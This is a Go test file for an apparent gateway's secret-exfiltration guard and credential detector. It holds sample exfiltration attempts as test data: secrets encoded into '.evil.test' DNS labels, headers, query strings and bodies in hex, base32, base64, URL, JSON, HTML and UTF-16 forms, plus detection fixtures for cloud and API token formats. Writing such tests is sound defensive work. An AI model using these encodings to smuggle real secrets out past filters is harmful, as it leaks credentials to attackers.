package inject

import (
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"testing/iotest"

	"sallyport/policy"
	"sallyport/secrets"
)

func guardOf(t testing.TB, values ...string) *Guard {
	t.Helper()
	var held []secrets.Held
	for i, v := range values {
		held = append(held, secrets.Held{Name: fmt.Sprintf("KEY_%d", i), Value: mustValue(t, v)})
	}
	return NewGuard(held)
}

func wantExfiltration(t *testing.T, r *Refusal) {
	t.Helper()
	if r == nil || r.Reason != policy.SecretExfiltration || len(r.Uses) == 0 || r.Uses[0].Name != "KEY_0" || r.Uses[0].Action != Withheld {
		t.Errorf("refusal %+v", r)
		return
	}
	if strings.Contains(r.Message+fmt.Sprint(r.Uses), "REAL") {
		t.Errorf("refusal shows the value: %+v", r)
	}
}

func TestSEC31RealValueInARequest(t *testing.T) {
	const value = "REAL/key+value=0123456789"
	g := guardOf(t, value, "short")
	for name, text := range everyReflection(value) {
		t.Run(name, func(t *testing.T) {
			text = strings.TrimSpace(text)
			wantExfiltration(t, g.Request(request("GET", "https://allowed.test/", "X-Data: "+text)))
			r := request("POST", "https://allowed.test/")
			r.URL.RawQuery = "d=" + text
			wantExfiltration(t, g.Request(r))
			for how, read := range map[string]func(io.Reader) io.Reader{"whole": asIs, "bytes": iotest.OneByteReader, "with the end": iotest.DataErrReader} {
				got, err := io.ReadAll(g.Body(read(strings.NewReader("before "+text+" behind")), "body"))
				var refusal *Refusal
				if !errors.As(err, &refusal) || shows(string(got), value) && (how != "bytes" || strings.Contains(string(got), text)) {
					t.Errorf("%s: %q, %v", how, got, err)
				}
			}
		})
	}
	for name, r := range map[string]*http.Request{
		"path":           request("GET", "https://allowed.test/REAL%2Fkey+value=0123456789/x"),
		"odd escapes":    request("GET", "https://allowed.test/?x=%52EAL%2Fkey%2bvalue%3d%30123456789"),
		"authorization":  request("GET", "https://allowed.test/", "Authorization: Bearer "+value),
		"basic":          request("GET", "https://allowed.test/", "Authorization: "+basicOf("me:"+value)),
		"cookie escaped": request("GET", "https://allowed.test/", "Cookie: a="+escapeAll(value)),
	} {
		t.Run(name, func(t *testing.T) { wantExfiltration(t, g.Request(r)) })
	}
	t.Run("a name is no key", func(t *testing.T) {
		g := guardOf(t, "production", "acme-bot", "hunter2")
		r := request("GET", "https://acme-bot.production.test/hunter2?env=production", "X-User: acme-bot")
		if refusal := g.Request(r); refusal != nil || g.Name("acme-bot.production.test") != nil {
			t.Errorf("refusal %+v", refusal)
		}
	})
	t.Run("nothing", func(t *testing.T) {
		r := request("POST", "https://allowed.test/REAL/key?short=short", append([]string{"X-Data: short " + value[:20]}, ordinary...)...)
		if refusal := g.Request(r); refusal != nil {
			t.Errorf("refusal %+v", refusal)
		}
		text := strings.Repeat("REAL/key+value ", 5000)
		if got, err := io.ReadAll(g.Body(strings.NewReader(text), "body")); err != nil || string(got) != text {
			t.Errorf("%d bytes, %v", len(got), err)
		}
		src := strings.NewReader("")
		if empty := NewGuard(nil); empty.Request(r) != nil || empty.Name("x.test") != nil || empty.Body(src, "body") != io.Reader(src) {
			t.Error("an empty guard looks for something")
		}
	})
}

func TestSEC31RealValueInAName(t *testing.T) {
	const value = "REALkey0123456789Value"
	g := guardOf(t, value)
	for name, host := range map[string]string{
		"plain":        value + ".evil.test",
		"lower case":   strings.ToLower(value) + ".evil.test",
		"over labels":  "real.key0123.456789.value.evil.test",
		"hex":          hex.EncodeToString([]byte(value)) + ".evil.test",
		"base32":       base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte(value)) + ".evil.test",
		"hex in two":   hex.EncodeToString([]byte(value))[:20] + "." + hex.EncodeToString([]byte(value))[20:] + ".evil.test",
		"in the label": "x-" + value + "-y.evil.test",
	} {
		t.Run(name, func(t *testing.T) { wantExfiltration(t, g.Name(host)) })
	}
	for _, host := range []string{"", "x", "realkey.evil.test", "0123456789.value.test"} {
		if r := g.Name(host); r != nil {
			t.Errorf("%q: %+v", host, r)
		}
	}
}

func TestCredentialPatterns(t *testing.T) {
	table := testTable()
	mixed := "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY9zA7bC5"
	for text, want := range map[string]string{
		"AKIA" + "Q3EG7XZ2KLMNP4RS":                "aws_access_key",
		"ghp_" + mixed[:36]:                        "github_token",
		"Bearer glpat-" + mixed[:20]:               "gitlab_token",
		"AIza" + mixed[:35]:                        "google_api_key",
		"npm_" + mixed[:36]:                        "npm_token",
		"sk_live_" + mixed[:24]:                    "stripe_key",
		"sk-proj-" + mixed + mixed:                 "openai_key",
		"xoxb-1029384756-5647382910-" + mixed[:24]: "slack_token",
		"hf_" + mixed[:34]:                         "huggingface_token",
		"-----BEGIN RSA PRIVATE KEY-----":          "private_key",
		"xAKIA" + "Q3EG7XZ2KLMNP4RS":               "", // within a word
		"AKIA" + "Q3EG7XZ2KLMNP4RSA":               "", // too long
		"AKIAIOSFODNN7EXAMPLE":                     "", // published
		"ghp_" + strings.Repeat("x", 36):           "",
		"ghp_" + mixed[:35]:                        "",
		"-----BEGIN PUBLIC KEY-----":               "",
		table.Placeholder("s1", "GH_TOKEN"):        "", // the gateway's own
		table.Placeholder("s2", "GH_TOKEN"):        "",
	} {
		for where, r := range map[string]*http.Request{
			"header X-A":          request("GET", "https://allowed.test/", "X-A: "+text),
			"query":               {URL: request("GET", "https://allowed.test/?q="+escape(text)).URL},
			"basic Authorization": request("GET", "https://allowed.test/", "Authorization: "+basicOf("u:"+text)),
		} {
			got := table.Credentials(input(r))
			if want == "" && got != nil || want != "" && (len(got) != 1 || got[0].Name != want || got[0].Place != where) {
				t.Errorf("%q in %s: %+v, want %q", text, where, got, want)
			}
		}
	}
	home := input(request("GET", "https://api.github.com/", "Authorization: token ghp_"+mixed[:36]))
	if got := table.Credentials(home); got != nil {
		t.Errorf("at home: %+v", got)
	}
	if got := table.Credentials(input(request("GET", "https://github.com.evil.test/", "Authorization: token ghp_"+mixed[:36]))); len(got) != 1 {
		t.Errorf("not at home: %+v", got)
	}
}

// TestEscapedAndBrokenValuesAreStopped: what is escaped in a mixture of ways,
// and base64 in lines, is known on its way out as well.
func TestEscapedAndBrokenValuesAreStopped(t *testing.T) {
	const value = "REAL/7f3a+9c51==e2d84b06-value-that-is-long"
	g := guardOf(t, value)
	lines := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("u", 30) + value))
	for name, text := range map[string]string{
		"URL":    mixed(value, "%%%02X", "%%%02x", false),
		"JSON":   mixed(value, `\u%04X`, `\u%04x`, true),
		"HTML":   mixed(value, "&#x%X;", "&#%d;", true),
		"lines":  lines[:60] + "\r\n" + lines[60:],
		"UTF-16": strings.Join(strings.Split(value, ""), "\x00"),
	} {
		if _, err := io.ReadAll(g.Body(iotest.OneByteReader(strings.NewReader("before "+text+" behind")), "body")); err == nil {
			t.Errorf("%s in a body: %q went out", name, text)
		}
		if name == "lines" || name == "UTF-16" {
			continue
		}
		if g.Request(request("GET", "https://free.test/", "X-Data: a "+text)) == nil {
			t.Errorf("%s in a header: %q went out", name, text)
		}
	}
}
